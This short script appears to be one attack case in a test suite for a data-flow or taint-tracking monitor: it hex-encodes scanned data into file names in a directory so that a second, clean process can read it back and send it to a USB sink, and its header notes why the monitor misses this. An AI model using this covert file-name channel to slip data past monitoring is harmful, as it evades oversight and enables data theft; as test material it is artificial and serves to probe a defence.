#!/usr/bin/env bash
# technique: names of files on the own disk carry the data from one process to a clean one
# hooks: inode_create, file_open (of the directory), file_open
# sink: usb
# uncaught: the names in a directory would taint everybody who lists it, /tmp and home first

. attack.sh
mkdir "$ROOM/names"
python3 - <<'PY'
from attack import *

text = scan()[:2048].hex()
for number, start in enumerate(range(0, len(text), 128)):
    with open(f"{ROOM}/names/{number:03}{text[start:start + 128]}", "xb"):
        pass
PY
python3 - <<'PY'
from attack import *

keep(bytes.fromhex("".join(name[3:] for name in sorted(os.listdir(f"{ROOM}/names")))))
PY
